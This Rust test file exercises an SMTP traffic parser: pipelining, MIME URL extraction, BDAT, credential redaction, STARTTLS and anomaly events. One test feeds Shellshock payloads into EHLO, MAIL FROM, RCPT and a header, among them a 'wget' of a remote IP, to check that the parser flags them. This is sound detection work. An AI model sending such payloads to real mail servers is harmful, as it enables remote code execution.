use super::*;
use crate::StreamDriver;

use Direction::{ToClient as TC, ToServer as TS};

type Outcome = (Vec<SmtpEvent>, Vec<SmtpTx>, Session);

fn run_split(script: &[(Direction, &[u8])], step: usize) -> Outcome {
    let mut d = StreamDriver::new(SmtpParser::new(SmtpConfig::default()), 1 << 16);
    let mut ev = Vec::new();
    let mut done = Vec::new();
    for &(dir, bytes) in script {
        for piece in bytes.chunks(step.max(1)) {
            let before = ev.len();
            d.feed(dir, piece, &mut ev);
            collect(&mut d, &ev[before..], &mut done);
        }
    }
    let before = ev.len();
    d.end(TS, &mut ev);
    d.end(TC, &mut ev);
    collect(&mut d, &ev[before..], &mut done);
    (ev, done, d.parser().session().clone())
}

fn run(script: &[(Direction, &[u8])]) -> Outcome {
    run_split(script, usize::MAX)
}

fn collect(d: &mut StreamDriver<SmtpParser>, ev: &[SmtpEvent], done: &mut Vec<SmtpTx>) {
    for e in ev {
        if let SmtpEvent::TxDone { tx } = e
            && let Some(t) = d.parser_mut().take_tx(*tx)
        {
            done.push(t);
        }
    }
}

/// An open relay accepting one foreign recipient and refusing another,
/// pipelined, with a proxy-check subject.
const RELAY: &[(Direction, &[u8])] = &[
    (TC, b"220 mail.example.net ESMTP Postfix\r\n"),
    (TS, b"EHLO prober.example\r\n"),
    (TC, b"250-mail.example.net\r\n250-PIPELINING\r\n250 8BITMIME\r\n"),
    (TS, b"MAIL FROM:<check@prober.example> SIZE=120\r\nRCPT TO:<list@prober.example>\r\nRCPT TO:<x@other.example>\r\nDATA\r\n"),
    (
        TC,
        b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n554 5.7.1 <x@other.example>: Relay access denied\r\n354 End data with <CR><LF>.<CR><LF>\r\n",
    ),
    (
        TS,
        b"Subject: 198.51.100.20:8080\r\nFrom: <check@prober.example>\r\nTo: list@prober.example\r\n\r\nchecking\r\n..dotted\r\n.\r\nQUIT\r\n",
    ),
    (TC, b"250 2.0.0 Ok: queued as ABC\r\n221 2.0.0 Bye\r\n"),
];

#[test]
fn pipelined_relay_dialogue() {
    let (ev, txs, session) = run(RELAY);
    assert_eq!(
        session.banner.as_deref(),
        Some("mail.example.net ESMTP Postfix")
    );
    assert_eq!(session.server_domain.as_deref(), Some("mail.example.net"));
    assert_eq!(
        (session.helo_verb.as_deref(), session.helo.as_deref()),
        (Some("EHLO"), Some("prober.example"))
    );
    assert_eq!(session.capabilities, ["PIPELINING", "8BITMIME"]);
    assert_eq!(txs.len(), 1);
    let t = &txs[0];
    assert_eq!(t.helo.as_deref(), Some("prober.example"));
    assert_eq!(t.mail_from.as_deref(), Some("<check@prober.example>"));
    assert_eq!(t.mail_from_address.as_deref(), Some("check@prober.example"));
    assert_eq!(t.mail_params, ["SIZE=120"]);
    let codes: Vec<Option<u16>> = t
        .rcpt
        .iter()
        .map(|r| r.reply.as_ref().map(|r| r.code))
        .collect();
    assert_eq!(codes, [Some(250), Some(554)]);
    assert_eq!(t.rcpt[1].domain().as_deref(), Some("other.example"));
    let e = t.email.as_ref().unwrap();
    assert_eq!(e.subject.as_deref(), Some("198.51.100.20:8080"));
    assert_eq!(e.body_lines, ["checking", ".dotted"]);
    assert!(t.data_complete);
    assert_eq!(
        t.data_reply.as_ref().map(Reply::summary).as_deref(),
        Some("250 2.0.0 Ok: queued as ABC")
    );
    let kinds: Vec<SmtpEvent> = ev
        .into_iter()
        .filter(|e| !matches!(e, SmtpEvent::Anomaly { .. }))
        .collect();
    assert_eq!(
        kinds,
        [
            SmtpEvent::Rcpt { tx: 0, index: 0 },
            SmtpEvent::Rcpt { tx: 0, index: 1 },
            SmtpEvent::MessageDone { tx: 0 },
            SmtpEvent::TxDone { tx: 0 }
        ]
    );
}

/// A MIME message with URLs in quoted-printable and base64 text and a
/// dot-stuffed line; a refused RSET keeps the envelope, an accepted one
/// ends it.
const MIME: &[(Direction, &[u8])] = &[
    (TC, b"220 mx.example.net ESMTP\r\n"),
    (TS, b"EHLO c.example\r\n"),
    (TC, b"250-mx.example.net\r\n250 PIPELINING\r\n"),
    (TS, b"MAIL FROM:<a@c.example>\r\nRSET\r\n"),
    (TC, b"250 ok\r\n500 not now\r\n"),
    (TS, b"RCPT TO:<b@mx.example.net>\r\nDATA\r\n"),
    (TC, b"250 ok\r\n354 go\r\n"),
    (
        TS,
        b"Subject: links\r\n\
          Content-Type: multipart/alternative; boundary=\"B\"\r\n\r\n--B\r\n\
          Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
          see http://qp.exa=\r\nmple/x now\r\n..dotted http://dot.example/\r\n--B\r\n\
          Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n\
          PGEgaHJlZj0iaHR0cDovL2I2NC5leGFt\r\ncGxlLyI+eDwvYT4K\r\n--B--\r\n.\r\nRSET\r\n",
    ),
    (TC, b"250 queued\r\n250 reset\r\n"),
];

#[test]
fn every_split_gives_the_same_result() {
    for script in [RELAY, MIME] {
        let whole = run(script);
        for step in 1..48 {
            assert_eq!(run_split(script, step), whole, "step {step}");
        }
    }
    let (_, txs, _) = run(MIME);
    let e = txs[0].email.as_ref().expect("message");
    assert_eq!(e.urls, ["qp.example/x", "dot.example/\r\n", "b64.example/"]);
    assert_eq!(txs[0].rcpt.len(), 1);
    assert_eq!(txs[0].mail_from.as_deref(), Some("<a@c.example>"));
}

/// Zeek's smtp-mail-transactions-invalid trace: after a refused DATA the
/// message text is commands (and refused as such), RCPT without MAIL
/// starts a transaction, and every MAIL starts a new one.
#[test]
fn refused_data_and_odd_transactions() {
    let (_, txs, _) = run(&[
        (TS, b"EHLO Bob-PC\r\n"),
        (TC, b"220 tinkyx390 ESMTP Exim 4.94.2\r\n250-tinkyx390 Hello localhost [127.0.0.1]\r\n250 HELP\r\n"),
        (TS, b"MAIL FROM:<bob@example.org>\r\n"),
        (TC, b"250 OK\r\n"),
        (TS, b"RCPT TO:<alice@example.org>\r\n"),
        (TC, b"250 Accepted\r\n"),
        (TS, b"DATA\r\n"),
        (TC, b"354 Enter message\r\n"),
        (TS, b"Hello, Alice (1)\r\n.\r\n"),
        (TC, b"250 OK id=1pgobK-001mwq-ED\r\n"),
        (TS, b"RCPT TO:<alice@example.org>\r\n"),
        (TC, b"503 sender not yet given\r\n"),
        (TS, b"DATA\r\n"),
        (TC, b"503-All RCPT commands were rejected with this error:\r\n503-503 sender not yet given\r\n503 valid RCPT command must precede DATA\r\n"),
        (TS, b"Hello, Alice (2)\r\n"),
        (TC, b"500 unrecognized command\r\n"),
        (TS, b".\r\n"),
        (TC, b"500 unrecognized command\r\n"),
        (TS, b"MAIL FROM:<bob@example.org>\r\n"),
        (TC, b"250 OK\r\n"),
        (TS, b"DATA\r\n"),
        (TC, b"503 valid RCPT command must precede DATA\r\n"),
        (TS, b"Hello, Alice (3)\r\n"),
        (TC, b"500 unrecognized command\r\n"),
        (TS, b".\r\n"),
        (TC, b"500 unrecognized command\r\n"),
        (TS, b"MAIL FROM:<bob@example.org>\r\n"),
        (TC, b"503 sender already given\r\n"),
        (TS, b"RCPT TO:<alice@example.org>\r\n"),
        (TC, b"250 Accepted\r\n"),
        (TS, b"DATA\r\n"),
        (TC, b"354 Enter message\r\n"),
        (TS, b"Hello, Alice... do you still like me?\r\n.\r\n"),
        (TC, b"250 OK id=1pgobM-001mwq-Vc\r\n"),
        (TS, b"QUIT\r\n"),
        (TC, b"221 closing connection\r\n"),
    ]);
    let rows: Vec<(Option<&str>, Vec<&str>, Option<String>)> = txs
        .iter()
        .map(|t| {
            (
                t.mail_from_address.as_deref(),
                t.rcpt.iter().map(|r| r.address.as_str()).collect(),
                t.last_reply.as_ref().map(Reply::summary),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            (
                Some("bob@example.org"),
                vec!["alice@example.org"],
                Some("250 OK id=1pgobK-001mwq-ED".into())
            ),
            (
                None,
                vec!["alice@example.org"],
                Some("500 unrecognized command".into())
            ),
            (
                Some("bob@example.org"),
                vec![],
                Some("500 unrecognized command".into())
            ),
            (
                Some("bob@example.org"),
                vec!["alice@example.org"],
                Some("250 OK id=1pgobM-001mwq-Vc".into())
            ),
        ]
    );
}

#[test]
fn bdat_chunks() {
    let (_, txs, _) = run(&[
        (TC, b"220 localhost ESMTP\r\n"),
        (TS, b"EHLO localhost\r\nMAIL FROM:<zeek@localhost>\r\nRCPT TO:<root@localhost>\r\nBDAT 28\r\nSubject: This is a test\r\n\r\nhBDAT 9 LAST\r\nbody!\r\n\r\n"),
        (TC, b"250 localhost\r\n250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n250 2.0.0 Ok: 28 bytes received\r\n250 2.0.0 Ok: 37 bytes queued as X\r\n"),
    ]);
    let t = &txs[0];
    assert!(t.bdat && t.data_complete);
    let e = t.email.as_ref().unwrap();
    assert_eq!(e.subject.as_deref(), Some("This is a test"));
    assert_eq!(e.size, 37);
    assert_eq!(e.body_lines, ["hbody!"]);
    assert_eq!(
        t.data_reply.as_ref().unwrap().summary(),
        "250 2.0.0 Ok: 37 bytes queued as X"
    );
}

#[test]
fn auth_credentials_are_never_kept() {
    let (ev, txs, session) = run(&[
        (TC, b"220 mx ESMTP\r\n"),
        (TS, b"EHLO me\r\n"),
        (TC, b"250-mx\r\n250 AUTH LOGIN PLAIN\r\n"),
        (TS, b"AUTH LOGIN\r\n"),
        (TC, b"334 VXNlcm5hbWU6\r\n"),
        (TS, b"c2VjcmV0dXNlcg==\r\n"),
        (TC, b"334 UGFzc3dvcmQ6\r\n"),
        (TS, b"c2VjcmV0cGFzcw==\r\n"),
        (TC, b"235 2.7.0 Authentication successful\r\n"),
        (TS, b"MAIL FROM:<a@b>\r\n"),
        (TC, b"250 ok\r\n"),
    ]);
    assert_eq!(session.auth_mechanism.as_deref(), Some("LOGIN"));
    assert_eq!(session.auth_ok, Some(true));
    assert!(!format!("{txs:?}{session:?}").contains("c2Vj"));
    assert!(
        !ev.iter().any(|e| matches!(e, SmtpEvent::Anomaly { .. })),
        "{ev:?}"
    );
    assert_eq!(txs[0].mail_from_address.as_deref(), Some("a@b"));
}

#[test]
fn starttls_makes_the_rest_opaque() {
    let (ev, txs, session) = run(&[
        (TC, b"220 mx.google.com ESMTP\r\n"),
        (TS, b"EHLO openssl.client.net\r\n"),
        (TC, b"250-mx.google.com at your service\r\n250 STARTTLS\r\n"),
        (TS, b"STARTTLS\r\n\x16\x03\x01\x02\x00\x01"),
        (TC, b"220 2.0.0 Ready to start TLS\r\n\x16\x03\x03garbage"),
        (TS, b"\x17\x03\x03more tls"),
    ]);
    assert!(session.tls);
    assert!(ev.contains(&SmtpEvent::StartTls));
    assert!(
        !ev.iter().any(|e| matches!(e, SmtpEvent::Anomaly { .. })),
        "{ev:?}"
    );
    assert!(txs.is_empty());
}

#[test]
fn gap_in_the_message_keeps_the_transaction() {
    let mut d = StreamDriver::new(SmtpParser::new(SmtpConfig::default()), 1 << 16);
    let mut ev = Vec::new();
    d.feed(TC, b"220 mx\r\n", &mut ev);
    d.feed(TS, b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n", &mut ev);
    d.feed(TC, b"250 ok\r\n250 ok\r\n354 go\r\n", &mut ev);
    d.feed(TS, b"Subject: s\r\n\r\nbody", &mut ev);
    d.gap(TS, 1000, &mut ev);
    d.feed(TS, b"end of a line\r\n.\r\n", &mut ev);
    d.feed(TC, b"250 queued\r\n", &mut ev);
    let t = d.parser_mut().take_tx(0).unwrap();
    assert!(t.gap && t.data_complete);
    assert_eq!(t.data_reply.unwrap().code, 250);
    assert_eq!(t.email.unwrap().subject.as_deref(), Some("s"));
}

#[test]
fn midstream_pickup_without_greeting() {
    let (_, txs, _) = run(&[(TS, b"RCPT TO:<x@y>\r\n"), (TC, b"250 ok\r\n")]);
    assert_eq!(txs[0].rcpt[0].reply.as_ref().map(|r| r.code), Some(250));
}

#[test]
fn probes() {
    assert_eq!(probe(TC, b"220 mail ESMTP"), Probe::Match);
    assert_eq!(probe(TC, b"220-mail"), Probe::Match);
    assert_eq!(probe(TC, b"22"), Probe::NeedMore);
    assert_eq!(probe(TC, b"HTTP/1.1"), Probe::NoMatch);
    assert_eq!(probe(TS, b"ehlo x"), Probe::Match);
    assert_eq!(probe(TS, b"HEL"), Probe::NeedMore);
    assert_eq!(probe(TS, b"GET /"), Probe::NoMatch);
}

mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn any_cut_points_give_the_same_result(cuts in proptest::collection::vec(0usize..600, 0..10),
                                               mime in any::<bool>()) {
            let script = if mime { MIME } else { RELAY };
            let whole = run(script);
            let mut d = StreamDriver::new(SmtpParser::new(SmtpConfig::default()), 1 << 16);
            let mut ev = Vec::new();
            let mut done = Vec::new();
            for &(dir, bytes) in script {
                let mut points: Vec<usize> = cuts.iter().map(|c| c % (bytes.len() + 1)).collect();
                points.sort_unstable();
                let mut at = 0;
                for p in points.into_iter().chain([bytes.len()]) {
                    let before = ev.len();
                    d.feed(dir, &bytes[at..p.max(at)], &mut ev);
                    collect(&mut d, &ev[before..], &mut done);
                    at = p.max(at);
                }
            }
            let before = ev.len();
            d.end(TS, &mut ev);
            d.end(TC, &mut ev);
            collect(&mut d, &ev[before..], &mut done);
            prop_assert_eq!((ev, done, d.parser().session().clone()), whole);
        }

        #[test]
        fn arbitrary_bytes_never_panic(ts in proptest::collection::vec(any::<u8>(), 0..500),
                                       tc in proptest::collection::vec(any::<u8>(), 0..500),
                                       step in 1usize..50) {
            let _ = run_split(&[(TC, &tc), (TS, &ts), (TC, &tc)], step);
        }

        #[test]
        fn command_like_input_never_panics(s in "((MAIL FROM:|RCPT TO:|DATA|BDAT [0-9]{1,3}( LAST)?|AUTH LOGIN|STARTTLS|RSET|[A-Z]{4})[ -~]{0,20}\r\n){1,8}",
                                           r in "([0-9]{3}[ -][ -~]{0,20}\r\n){1,8}") {
            let _ = run(&[(TS, s.as_bytes()), (TC, r.as_bytes()), (TS, s.as_bytes())]);
        }
    }
}

#[test]
fn shellshock_in_commands_and_headers() {
    let (_, txs, session) = run(&[
        (TC, b"220 mx.example ESMTP\r\n"),
        (TS, b"EHLO () { :; }; /bin/sh -c id\r\n"),
        (TC, b"250 mx.example\r\n"),
        (TS, b"MAIL FROM:<() { :;}; wget http://198.51.100.2/x>\r\nRCPT TO:<a@mx.example>\r\nDATA\r\n"),
        (TC, b"250 ok\r\n250 ok\r\n354 go\r\n"),
        (
            TS,
            b"Subject: hi\r\nX-Mailer: ok ()\r\nX-Tag:\r\n () { _; } >_[$($())] { id; }\r\n\r\nbody () { :; }; not a header\r\n.\r\n",
        ),
        (TC, b"250 queued\r\n"),
        (TS, b"MAIL FROM:<b@c>\r\nRCPT TO:<() { :; }; echo x@mx.example>\r\n"),
        (TC, b"250 ok\r\n550 no\r\n"),
    ]);
    let h = session.shellshock.as_deref().expect("EHLO");
    assert_eq!((h.location, h.name.as_deref()), ("command", Some("EHLO")));
    assert_eq!(h.finding.command.as_deref(), Some("/bin/sh -c id"));
    let t = &txs[0];
    let h = t.shellshock.as_deref().expect("MAIL");
    assert_eq!(h.name.as_deref(), Some("MAIL"));
    assert_eq!(
        h.finding.command.as_deref(),
        Some("wget http://198.51.100.2/x>")
    );
    let e = t
        .email
        .as_ref()
        .unwrap()
        .shellshock
        .as_deref()
        .expect("header");
    assert_eq!((e.location, e.name.as_deref()), ("header", Some("X-Tag")));
    assert_eq!(e.finding.variant, crate::shellshock::Variant::Cve2014_6278);
    let h = txs[1].shellshock.as_deref().expect("RCPT");
    assert_eq!(h.name.as_deref(), Some("RCPT"));
}

/// Suricata's line cut: a command as long as `max_line` with its line
/// break is taken as its first `max_line` bytes, line break and all.
#[test]
fn over_long_command_is_cut_not_dropped() {
    let name = "OBLAH".repeat(900);
    let line = format!("EHLO {name}\r\n");
    assert_eq!(line.len(), 4507);
    let (ev, _, session) = run_split(
        &[
            (TC, b"220 mail ESMTP\r\n"),
            (TS, line.as_bytes()),
            (TC, b"250 mail\r\n"),
        ],
        1000,
    );
    let helo = session.helo.expect("helo");
    assert_eq!(helo.len(), 4096 - 5);
    assert!(ev.contains(&SmtpEvent::Anomaly {
        tx: None,
        kind: SmtpAnomaly::LineTooLong
    }));
    // Exactly at the limit: the CR stays, the LF is beyond.
    let name = "x".repeat(4096 - 5 - 1);
    let (_, _, session) = run(&[(TS, format!("EHLO {name}\r\n").as_bytes())]);
    assert_eq!(session.helo, Some(format!("{}\r", &name[..4090])));
    // The rest of a cut line is skipped, not read as commands.
    let long = format!(
        "NOOP {}\r\nMAIL FROM:<a@b>\r\n",
        "RCPT TO:<x@y> ".repeat(400)
    );
    let (_, txs, _) = run_split(&[(TS, long.as_bytes())], 700);
    assert_eq!(txs.len(), 1);
    assert!(txs[0].rcpt.is_empty());
    assert_eq!(txs[0].mail_from.as_deref(), Some("<a@b>"));
}

/// A RSET or mid-transaction EHLO ends the transaction when answered 250;
/// refused, the envelope stays. The first HELO names the client.
#[test]
fn rset_and_helo_end_transactions_on_their_answer() {
    let (_, txs, session) = run(&[
        (TC, b"220 mail ESMTP\r\n"),
        (TS, b"helo client.example.com\r\n"),
        (TC, b"250 mail\r\n"),
        (TS, b"mail from:<alice@example.com>\r\n"),
        (TC, b"250 Ok\r\n"),
        (TS, b"ehlo\r\n"),
        (TC, b"501 Syntax: EHLO hostname\r\n"),
        (TS, b"rcpt to:<bob@example.com>\r\n"),
        (TC, b"250 Ok\r\n"),
        (TS, b"RSET\r\n"),
        (TC, b"502 not now\r\n"),
        (TS, b"RCPT TO:<carol@example.com>\r\n"),
        (TC, b"250 Ok\r\n"),
        (TS, b"EHLO again.example\r\n"),
        (TC, b"250 mail\r\n"),
        (TS, b"MAIL FROM:<bob@example.com>\r\n"),
        (TC, b"250 Ok\r\n"),
        (TS, b"RSET\r\n"),
        (TC, b"250 Reset\r\n"),
        (TS, b"MAIL FROM:<carol@example.com>\r\n"),
    ]);
    let rows: Vec<(Option<&str>, usize, Option<&str>)> = txs
        .iter()
        .map(|t| (t.mail_from.as_deref(), t.rcpt.len(), t.helo.as_deref()))
        .collect();
    assert_eq!(
        rows,
        [
            (Some("<alice@example.com>"), 2, Some("client.example.com")),
            (Some("<bob@example.com>"), 0, Some("client.example.com")),
            (Some("<carol@example.com>"), 0, Some("client.example.com")),
        ]
    );
    assert_eq!(session.helo.as_deref(), Some("client.example.com"));
}

/// `EHLO` with no name is SMTP; RSET and STARTTLS before any mail leave
/// no transaction, and the accepted STARTTLS ends an open one.
#[test]
fn bare_ehlo_rset_and_starttls() {
    assert_eq!(probe(TS, b"EHLO\n"), Probe::Match);
    let (ev, txs, session) = run(&[
        (TS, b"EHLO\n"),
        (TC, b"250\n"),
        (TS, b"rset\nstaRttLs\n"),
        (TC, b"250\n220\n"),
    ]);
    assert!(txs.is_empty());
    assert_eq!(session.helo.as_deref(), Some(""));
    assert!(session.tls && ev.contains(&SmtpEvent::StartTls));
    let (_, txs, _) = run(&[
        (TS, b"EHLO a\r\nMAIL FROM:<a@b>\r\nSTARTTLS\r\n"),
        (TC, b"250 x\r\n250 ok\r\n220 go\r\n"),
    ]);
    assert_eq!(txs.len(), 1);
    assert!(txs[0].tls);
}

/// `BDAT 5 X` is refused and opens nothing; a pipelining client's message
/// sent without waiting for the 354 is read as the message, also after
/// the server has closed.
#[test]
fn bad_bdat_tail_and_pipelined_data_after_the_server_left() {
    let script: &[(Direction, &[u8])] = &[
        (TC, b"220 mail ESMTP\r\n"),
        (TS, b"ehlo c\r\n"),
        (TC, b"250-mail\r\n250-PIPELINING\r\n250 CHUNKING\r\n"),
        (
            TS,
            b"mail from:<alice@example.com>\r\nrcpt to:<bob@example.com>\r\n",
        ),
        (TC, b"250 Ok\r\n250 Ok\r\n"),
        (TS, b"BDAT 5 X\r\n"),
        (TC, b"521 5.5.4 Syntax: BDAT count [LAST]\r\n"),
    ];
    let tail: &[u8] = b"BDAT 12 LAST\r\nSubject: a\r\n\r\nmail from:<bob@example.com>\r\n\
        rcpt to:<alice@example.com>\r\ndata\r\nSubject: b\r\n\r\nsee http://x.example/\r\n.\r\n";
    let mut d = StreamDriver::new(SmtpParser::new(SmtpConfig::default()), 1 << 16);
    let (mut ev, mut done) = (Vec::new(), Vec::new());
    for &(dir, bytes) in script {
        d.feed(dir, bytes, &mut ev);
    }
    d.end(TC, &mut ev);
    d.feed(TS, tail, &mut ev);
    d.end(TS, &mut ev);
    collect(&mut d, &ev, &mut done);
    let rows: Vec<(u64, Option<&str>, Option<&str>, bool)> = done
        .iter()
        .map(|t| {
            let e = t.email.as_ref();
            (
                t.id,
                t.mail_from.as_deref(),
                e.and_then(|e| e.subject.as_deref()),
                t.data_complete,
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            (0, Some("<alice@example.com>"), Some("a"), true),
            (1, Some("<bob@example.com>"), Some("b"), true),
        ]
    );
    assert_eq!(done[1].email.as_ref().unwrap().urls, ["x.example/\r\n"]);
}

/// The fuzz target's run of a seed (fuzz/fuzz_targets/smtp.rs): control
/// bytes say direction, length, gaps and ends, and ends may come more than
/// once.
fn fuzz_drive(data: &[u8]) {
    let cfg = SmtpConfig {
        max_line: 256,
        max_txs: 4,
        ..SmtpConfig::default()
    };
    let mut done = Vec::new();
    crate::driver::play_script(SmtpParser::new(cfg), data, |d, ev| {
        collect(d, ev, &mut done);
    });
}

/// Found by the fuzzer: a message whose end comes after the connection was
/// ended under it reported a transaction already taken, and the count of
/// open transactions went below zero.
#[test]
fn data_ending_after_the_close_reports_nothing_taken() {
    fuzz_drive(include_bytes!(
        "../../../../fuzz/corpora/smtp/regress-done-after-close"
    ));
}

/// The anomalies of a run, by name.
fn anomalies(ev: &[SmtpEvent]) -> Vec<&'static str> {
    ev.iter()
        .filter_map(|e| match e {
            SmtpEvent::Anomaly { kind, .. } => Some(kind.name()),
            _ => None,
        })
        .collect()
}

#[test]
fn suricatas_smtp_events() {
    // A second greeting, and a DATA the server refuses.
    let (ev, txs, _) = run(&[
        (TC, b"220 mx ESMTP\r\n"),
        (TS, b"HELO a\r\n"),
        (TC, b"250 mx\r\n"),
        (TS, b"MAIL FROM:<a@b>\r\n"),
        (TC, b"250 ok\r\n"),
        (TS, b"DATA\r\n"),
        (TC, b"554 no valid recipients\r\n"),
        (TS, b"EHLO a\r\n"),
        (TC, b"250 mx\r\n"),
    ]);
    assert_eq!(
        anomalies(&ev),
        ["data_command_rejected", "duplicate_fields"],
        "{txs:?}"
    );
    // BDAT with a bad argument is refused and carries no chunk: what
    // follows is commands.
    let (ev, txs, _) = run(&[
        (TC, b"220 mx ESMTP\r\n"),
        (TS, b"EHLO a\r\n"),
        (TC, b"250-mx\r\n250 CHUNKING\r\n"),
        (TS, b"BDAT 5 X\r\nMAIL FROM:<a@b>\r\n"),
        (TC, b"501 syntax\r\n250 ok\r\n"),
    ]);
    assert_eq!(anomalies(&ev), ["invalid_bdat"]);
    assert_eq!(txs.len(), 1);
    assert_eq!(txs[0].mail_from_address.as_deref(), Some("a@b"));
    // A line sent behind DATA before its answer, once.
    let (ev, _, _) = run(&[
        (TC, b"220 mx ESMTP\r\n"),
        (TS, b"EHLO a\r\n"),
        (TC, b"250-mx\r\n250 PIPELINING\r\n"),
        (
            TS,
            b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\nSubject: x\r\n\r\nhi\r\n.\r\n",
        ),
        (TC, b"250 ok\r\n250 ok\r\n354 go\r\n"),
        (TC, b"250 queued\r\n"),
    ]);
    assert_eq!(anomalies(&ev), ["invalid_pipelined_sequence"]);
}
